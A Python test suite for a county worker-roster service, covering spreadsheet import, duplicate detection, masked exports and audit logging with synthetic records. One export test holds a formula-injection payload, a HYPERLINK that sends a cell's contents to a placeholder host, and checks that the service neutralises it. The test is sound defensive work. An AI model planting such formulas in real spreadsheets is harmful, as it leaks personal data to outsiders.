"""Roster import (upload, mapping, dry run, apply, never twice) and export, with real spreadsheets.
"""

import base64
import csv
import datetime as dt
import io

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from server.extensions import db
from server.models import AuditEntry, Change, Event, RosterImport, Worker
from server.services.events import rebuild_all_records
from tests.api.sync_helpers import envelope, push
from tests.conftest import make_id_number, person

pytestmark = pytest.mark.usefixtures("fair")  # its scans name the fair "f"

HEADINGS = ["序号", "姓名", "身份证号码", "手机号", "户籍县代码", "乡镇", "村", "是否建档立卡",
            "文化程度"]
MAPPING = {"name": "姓名", "id_number": "身份证号码", "phone": "手机号",
           "county_code": "户籍县代码",
           "township": "乡镇", "village": "村", "poor_household": "是否建档立卡",
           "education": "文化程度"}


def good_row(n: int) -> list:
    birth = dt.date(1975, 1, 1) + dt.timedelta(days=n // 900)
    return [n, f"工人{n:05d}", make_id_number(birth=birth, sequence=n % 900 + 100), f"139{n:08d}",
            "621121", "平襄镇", "西关村", "是" if n % 3 else "否", "初中"]


def spreadsheet(rows) -> str:
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet()
    sheet.append(HEADINGS)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return base64.b64encode(out.getvalue()).decode()


def upload_and_check(client, auth, content, filename="通渭县2027年春季名单.xlsx", **options):
    uploaded = client.post("/api/imports", json={"filename": filename, "content_base64": content},
                           headers=auth.headers("county"))
    assert uploaded.status_code == 201, uploaded.json
    assert uploaded.json["mapping"] == MAPPING  # the headings county offices use are recognised
    checked = client.post(f"/api/imports/{uploaded.json['id']}/check",
                          json={"mapping": MAPPING, "consent_on_paper": True, **options},
                          headers=auth.headers("county"))
    assert checked.status_code == 200, checked.json
    return checked.json


@pytest.mark.slow
def test_ten_thousand_rows_with_three_percent_bad_import_exactly_the_good_ones_once(client, auth):
    rows, bad = [], {}
    for n in range(1, 10_001):
        row = good_row(n)
        if n % 100 == 7:
            row[2] = row[2][:-1] + ("0" if row[2][-1] != "0" else "1")  # a mistyped last character
            bad[n + 1] = "invalid"
        elif n % 100 == 37:
            row[2] = good_row(n - 20)[2]  # the same person as 20 rows above
            bad[n + 1] = "duplicate_in_file"
        elif n % 100 == 77:
            row[4] = "621199"  # Gansu has no such county
            bad[n + 1] = "unknown_county"
        rows.append(row)
    content = spreadsheet(rows)
    report = upload_and_check(client, auth, content)
    assert (report["total_rows"], report["valid_rows"], report["problem_rows"]) == (
        10_000,
        9_700,
        300,
    )
    assert {p["row"]: p["code"] for p in report["problems"]} == bad
    assert db.session.query(Worker).count() == 0  # a dry run

    applied = client.post(
        f"/api/imports/{report['id']}/apply", headers=auth.headers("county")
    ).json
    assert (applied["status"], applied["imported_rows"], applied["problem_rows"]) == (
        "applied",
        9_700,
        300,
    )
    assert db.session.query(Worker).count() == 9_700
    sample = db.session.query(Worker).filter_by(name="工人00042").one()
    assert (sample.home_township, sample.poor_household, sample.education) == (
        "平襄镇",
        False,
        "junior_secondary",
    )

    again = upload_and_check(client, auth, content)
    assert (again["valid_rows"], again["problem_rows"]) == (0, 10_000)
    assert sum(p["code"] == "already_registered" for p in again["problems"]) == 9_700
    reapplied = client.post(
        f"/api/imports/{again['id']}/apply", headers=auth.headers("county")
    ).json
    assert reapplied["imported_rows"] == 0 and db.session.query(Worker).count() == 9_700


def test_a_fair_pre_registration_list_registers_newcomers_and_lists_everyone_once(
    client, auth, register
):
    known, other, listed_before = (register(n, name=name) for n,
                                   name in ((1, "王建国"), (2, "王建业"), (3, "李秀英")))
    rows = [good_row(1), good_row(2), good_row(3), good_row(4)]
    rows[1][1:3] = ["王建国", person(1)["id_number"]]  # registered already: only put on the list
    # the ID of someone else by name: a typo to check
    rows[2][1:3] = ["王建军", person(2)["id_number"]]
    rows[3][1:3] = ["李秀英", person(3)["id_number"]]
    first = upload_and_check(client, auth, spreadsheet([rows[3]]), fair_id="f")
    client.post(f"/api/imports/{first['id']}/apply", headers=auth.headers("county"))

    report = upload_and_check(client, auth, spreadsheet(rows), fair_id="f")
    assert report["fair_id"] == "f"
    assert {p["row"]: p["code"] for p in report["problems"]} == {4: "name_mismatch",
                                                                 5: "already_preregistered"}
    workers_before = db.session.query(Worker).count()
    applied = client.post(
        f"/api/imports/{report['id']}/apply", headers=auth.headers("county")
    ).json
    assert (applied["imported_rows"], applied["problem_rows"]) == (2, 2)
    # 王建国 is not registered a second time
    assert db.session.query(Worker).count() == workers_before + 1
    listed = (
        db.session.query(Event.worker_id).filter_by(type="fair.preregistered", fair_id="f").all()
    )
    assert len(listed) == 3 and {known["id"], listed_before["id"]} <= {w for (w,) in listed}
    assert other["id"] not in {w for (w,) in listed}
    # each record is what its events fold to (the listing is an event of the record too), and the
    # newcomer is staged for the county's phones
    assert rebuild_all_records(check_only=True) == []
    newcomer = db.session.scalar(select(Worker.id).where(Worker.name == "工人00001"))
    assert db.session.scalar(select(Change.position).where(Change.kind == "worker",
                                                           Change.entity_id == newcomer))

    again = upload_and_check(client, auth, spreadsheet(rows), fair_id="f")
    assert again["valid_rows"] == 0
    db.session.rollback()
    push(client, auth, "fair_staff", "fair-phone",
         envelope("fair.checked_in", worker_id=known["id"],
                                                            context={"fair_id": "f"}))
    counts = client.get("/api/fairs/f", headers=auth.headers("county")).json["counts"]
    assert (counts["preregistered"], counts["preregistered_came"], counts["checked_in"]) == (
        3,
        1,
        1,
    )
    unknown = client.post(f"/api/imports/{report['id']}/check", headers=auth.headers("county"),
                          json={"mapping": MAPPING, "consent_on_paper": True, "fair_id": "x" * 36})
    # applied already; a fresh upload is checked against the fair:
    assert unknown.status_code == 409
    fresh = client.post("/api/imports",
                        json={"filename": "名单.xlsx", "content_base64": spreadsheet(rows)},
                        headers=auth.headers("county")).json
    unknown = client.post(f"/api/imports/{fresh['id']}/check", headers=auth.headers("county"),
                          json={"mapping": MAPPING, "consent_on_paper": True, "fair_id": "x" * 36})
    assert unknown.status_code == 422 and "fair_id" in unknown.json["errors"]


def test_the_report_downloads_with_masked_id_numbers_and_an_applied_import_is_closed(client, auth):
    rows = [good_row(1), good_row(2)]
    rows[1][2] = "621121198501011230"  # wrong check character
    report = upload_and_check(client, auth, spreadsheet(rows))
    assert client.post(f"/api/imports/{report['id']}/check",
                       json={"mapping": MAPPING, "consent_on_paper": False},
                       headers=auth.headers("county")).status_code == 422
    sheet = client.get(f"/api/imports/{report['id']}/report?format=xlsx",
                       headers=auth.headers("county"))
    assert sheet.status_code == 200 and "attachment" in sheet.headers["Content-Disposition"]
    table = [list(r)
             for r in load_workbook(io.BytesIO(sheet.data)).active.iter_rows(values_only=True)]
    assert table[1][:4] == [3, "工人00002", "621121********1230", "身份证号码"]
    assert "621121198501011230" not in repr(table)
    text = client.get(
        f"/api/imports/{report['id']}/report?format=csv", headers=auth.headers("county")
    ).data
    assert list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))[1][0] == "3"
    client.post(f"/api/imports/{report['id']}/apply", headers=auth.headers("county"))
    closed = client.post(f"/api/imports/{report['id']}/apply", headers=auth.headers("county"))
    assert closed.status_code == 409 and closed.json["code"] == "import_applied"
    # not theirs
    assert (
        client.get(f"/api/imports/{report['id']}", headers=auth.headers("workstation")).status_code
        == 404
    )
    actions = {a for (a,) in db.session.query(AuditEntry.action)}
    assert {"import.uploaded", "import.checked", "import.applied"} <= actions


def test_rows_outside_your_county_and_unreadable_files_are_refused(client, auth):
    rows = [good_row(1)]
    rows[0][4] = "621122"
    report = upload_and_check(client, auth, spreadsheet(rows))
    assert [p["code"] for p in report["problems"]] == ["out_of_scope"]
    for body in ({"filename": "名单.xlsx",
                  "content_base64": base64.b64encode(b"not excel").decode()},
                 {"filename": "名单.xls", "content_base64": "AAAA"},
                 {"filename": "名单.csv", "content_base64": "%%%"}):
        refused = client.post("/api/imports", json=body, headers=auth.headers("county"))
        assert refused.status_code == 422, refused.json
    assert client.post("/api/imports", json={"filename": "a.csv", "content_base64": "YQ=="},
                       headers=auth.headers("fair_staff")).status_code == 403


def test_exports_write_formula_like_names_as_text(client, auth, register):
    hostile = '=HYPERLINK("http://x.invalid/?"&B2,"领补贴")'
    register(0, name=hostile)
    register(1, name="@SUM(1+1)")
    xlsx = client.get("/api/workers/export?format=xlsx", headers=auth.headers("county"))
    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    cells = {sheet.cell(row=r, column=1).value: sheet.cell(row=r, column=1).data_type
             for r in (2, 3)}
    # the text as typed, a string cell: nothing runs
    assert cells == {hostile: "s", "@SUM(1+1)": "s"}
    rows = list(csv.reader(io.StringIO(client.get("/api/workers/export?format=csv",
                                                  headers=auth.headers("county"))
                                       .data.decode("utf-8-sig"))))
    assert sorted(r[0] for r in rows[1:]) == ["'" + hostile, "'@SUM(1+1)"]


def test_an_export_is_the_filtered_list_masked_by_role_and_audited(client, auth, register):
    for n in range(3):
        register(n, name=f"导出{n}")
    register(9, name="陇西人", home={"county_code": "621122", "township": "首阳镇"})
    response = client.get("/api/workers/export?format=xlsx", headers=auth.headers("county"))
    assert response.status_code == 200
    table = [list(r)
             for r in load_workbook(io.BytesIO(response.data)).active.iter_rows(values_only=True)]
    assert table[0][:3] == ["姓名", "身份证号", "性别"] and len(table) == 4
    assert sorted(r[0] for r in table[1:]) == ["导出0", "导出1", "导出2"]
    assert all("*" in r[1] for r in table[1:])
    as_csv = client.get("/api/workers/export?format=csv&q=导出1", headers=auth.headers("county"))
    assert (
        as_csv.data.startswith("\ufeff".encode())
        and len(as_csv.data.decode("utf-8-sig").strip().splitlines()) == 2
    )
    with_ids = client.get("/api/workers/export?format=csv&reveal_reason=核对补贴名单",
                          headers=auth.headers("county"))
    assert with_ids.status_code == 403  # a token never reveals: a fresh passkey sign-in does
    exported = db.session.query(AuditEntry).filter_by(action="workers.exported").all()
    assert [e.details["rows"] for e in exported] == [3, 1]


def test_a_200_mb_upload_is_refused_before_it_is_read(client, auth):
    body = b'{"filename": "big.csv", "content_base64": "' + b"A" * (200 * 2**20) + b'"}'
    response = client.post("/api/imports", data=body, content_type="application/json",
                           headers=auth.headers("county"))
    assert response.status_code == 413 and response.json["code"] == "request_entity_too_large"
    assert "24 MB" in response.json["message"]
    assert db.session.query(RosterImport).count() == 0
